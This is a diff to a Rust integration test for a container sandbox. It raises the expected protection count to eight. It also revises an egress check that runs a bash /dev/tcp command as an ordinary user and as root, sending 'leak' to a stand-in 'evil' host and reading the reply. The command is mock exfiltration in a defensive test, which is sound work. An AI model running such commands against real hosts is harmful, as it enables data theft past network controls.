@@ -20,7 +20,7 @@ mod engines {
     fn keeps_the_promise(rig: &Rig, guest: &RunningBox) {
         let status = guest.status();
         let protections = status["protections"].as_array().unwrap();
-        assert_eq!(protections.len(), 7, "{status}");
+        assert_eq!(protections.len(), 8, "{status}");
         for protection in protections {
             assert_eq!(protection["held"], Value::Bool(true), "{protection}");
         }
@@ -241,14 +241,16 @@ mod engines {
         assert!(bundle.exec("1000", "curl -sS -m 10 http://ok.test/").out.contains("token-"));
         let mark = rig.world.sync();
         for user in ["1000", "0"] {
-            let knock = format!("exec 3<>/dev/tcp/{}/443 && echo leak >&3", host("evil"));
-            assert!(!bundle.exec(user, &knock).ok());
+            // The gate takes the connection; whose octets come back is what counts.
+            let knock = format!("exec 3<>/dev/tcp/{}/443 && echo leak >&3; timeout 5 cat <&3", host("evil"));
+            let said = bundle.exec(user, &knock);
+            assert!(!said.out.contains("token-"), "{said:?}");
         }
         assert!(rig.world.packets_since(mark).iter().all(|packet| packet["dst"] != host("evil")));
         let status = bundle.exec("0", "innkeeper status --json").expect("status");
         let status: Value = serde_json::from_str(&status).unwrap();
         let held = status["protections"].as_array().unwrap();
-        assert!(held.len() == 7 && held.iter().all(|protection| protection["held"] == true), "{status}");
+        assert!(held.len() == 8 && held.iter().all(|protection| protection["held"] == true), "{status}");
         let modes = bundle.exec("0", "stat -c '%a %U %n' /run /tmp /workspace /home/claude").expect("stat");
         assert_eq!(modes, "755 root /run\n1777 root /tmp\n755 claude /workspace\n700 claude /home/claude\n");
         must("runc", &["kill", &bundle.id, "TERM"]);
